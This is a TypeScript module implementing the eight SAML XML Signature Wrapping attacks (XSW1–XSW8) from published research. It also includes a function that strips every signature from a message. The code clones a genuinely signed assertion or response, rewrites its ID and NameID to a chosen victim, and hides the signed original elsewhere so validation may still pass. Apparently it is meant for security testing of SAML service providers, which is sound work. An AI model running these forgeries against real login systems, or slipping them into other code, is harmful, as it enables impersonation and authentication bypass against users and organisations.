import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const assertionNamespace = 'urn:oasis:names:tc:SAML:2.0:assertion';
const protocol = 'urn:oasis:names:tc:SAML:2.0:protocol';
const signatureNamespace = 'http://www.w3.org/2000/09/xmldsig#';

const parse = (xml: string) => new DOMParser().parseFromString(xml, 'text/xml');
const print = (document: Document) => new XMLSerializer().serializeToString(document);

function one(parent: Document | Element, namespace: string, name: string): Element {
  const found = parent.getElementsByTagNameNS(namespace, name).item(0);
  if (!found) throw new Error(`the message has no ${name}`);
  return found;
}

/** The signature that stands directly in an element. */
function signatureIn(parent: Element): Element {
  for (let child = parent.firstChild; child; child = child.nextSibling)
    if (child.nodeName.endsWith('Signature')) return child as Element; // a node of this name is an element
  throw new Error(`${parent.nodeName} is not signed`);
}

const clone = (element: Element) => element.cloneNode(true) as Element; // a copy is of the kind of the original

/** Another ID, and another person in it. */
function forge(element: Element, victim: string): Element {
  element.setAttribute('ID', '_forged');
  const names = element.getElementsByTagNameNS(assertionNamespace, 'NameID');
  for (let index = 0; index < names.length; index++) {
    const name = names.item(index);
    if (name) name.textContent = victim;
  }
  return element;
}

export function withoutSignatures(xml: string): string {
  const document = parse(xml);
  for (let found = document.getElementsByTagNameNS(signatureNamespace, 'Signature'); found.length > 0; ) {
    const signature = found.item(0);
    signature?.parentNode?.removeChild(signature);
    found = document.getElementsByTagNameNS(signatureNamespace, 'Signature');
  }
  return print(document);
}

type Wrapping = (document: Document, victim: string) => void;

/** The message stands whole in one that says something else. */
const aroundResponse =
  (place: (evil: Element, original: Element, signature: Element) => void): Wrapping =>
  (document, victim) => {
    const evil = document.documentElement;
    const original = clone(evil);
    original.removeChild(signatureIn(original));
    const signature = signatureIn(evil);
    place(forge(evil, victim), original, signature);
  };

/** The assertion stands beside, in or around one that says something else. */
const aroundAssertion =
  (place: (evil: Element, original: Element, response: Element) => void): Wrapping =>
  (document, victim) => {
    const original = one(document, assertionNamespace, 'Assertion');
    place(forge(clone(original), victim), original, document.documentElement);
  };

/** The eight ways of wrapping a signature (Somorovsky and others, “On Breaking SAML”, 2012). */
const wrappings: Record<string, Wrapping> = {
  XSW1: aroundResponse((_evil, original, signature) => void signature.appendChild(original)),
  XSW2: aroundResponse((evil, original, signature) => void evil.insertBefore(original, signature)),
  XSW3: aroundAssertion((evil, original, response) => {
    evil.removeChild(signatureIn(evil));
    response.insertBefore(evil, original);
  }),
  XSW4: aroundAssertion((evil, original, response) => {
    evil.removeChild(signatureIn(evil));
    response.replaceChild(evil, original);
    evil.appendChild(original);
  }),
  XSW5: aroundAssertion((evil, original, response) => {
    response.replaceChild(evil, original);
    original.removeChild(signatureIn(original));
    response.appendChild(original);
  }),
  XSW6: aroundAssertion((evil, original, response) => {
    response.replaceChild(evil, original);
    original.removeChild(signatureIn(original));
    signatureIn(evil).appendChild(original);
  }),
  XSW7: aroundAssertion((evil, original, response) => {
    evil.removeChild(signatureIn(evil));
    const extensions = original.ownerDocument.createElementNS(protocol, 'samlp:Extensions');
    extensions.appendChild(evil);
    response.insertBefore(extensions, original);
  }),
  XSW8: aroundAssertion((evil, original, response) => {
    response.replaceChild(evil, original);
    original.removeChild(signatureIn(original));
    const object = original.ownerDocument.createElementNS(signatureNamespace, 'ds:Object');
    object.appendChild(original);
    signatureIn(evil).appendChild(object);
  }),
};

export const wrappingNames = Object.keys(wrappings);

/** A genuine message turned into one that names the victim, with a signature that still holds somewhere in it. */
export function wrap(xml: string, name: string, victim: string): string {
  const document = parse(xml);
  wrappings[name]?.(document, victim);
  return print(document);
}
